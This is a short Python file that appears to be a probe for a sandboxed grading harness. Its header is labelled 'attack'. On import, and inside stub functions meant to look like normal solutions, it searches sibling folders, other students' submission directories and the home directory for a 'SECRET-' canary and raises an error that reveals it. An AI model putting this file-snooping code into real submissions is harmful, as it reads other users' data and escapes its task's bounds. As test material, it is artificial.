# /// attack
# tries = "Opens files beside its own and in the folders of other students, by the usual names."
# gain = "secret"
# open_at = ["L1", "L0"]
# plain = "secret"
# ///
import glob
import os
import re

MARK = re.compile("".join(("SEC", "RET-")) + "[A-Z]{3,}[A-Z-]*")


def look(text):
    if found := MARK.search(text):
        raise RuntimeError("LEAKED " + found[0])

PATTERNS = ("*.py", "../student*/*/*", "../../student*/*/*", "../*/canary.py", "submissions/*/*/*", "handed_in/*/*/*")


def search():
    own = os.path.dirname(globals().get("__file__", "")) or "."
    for folder in {own, os.getcwd(), os.path.expanduser("~")}:
        for pattern in PATTERNS:
            for path in glob.glob(os.path.join(folder, pattern))[:100]:
                try:
                    with open(path, errors="replace") as file:
                        look(file.read(200_000))
                except OSError:
                    pass


search()


def double(x):
    search()


class Box:
    def put(self, x):
        search()

    def take(self):
        return None


def apply(f, x):
    search()
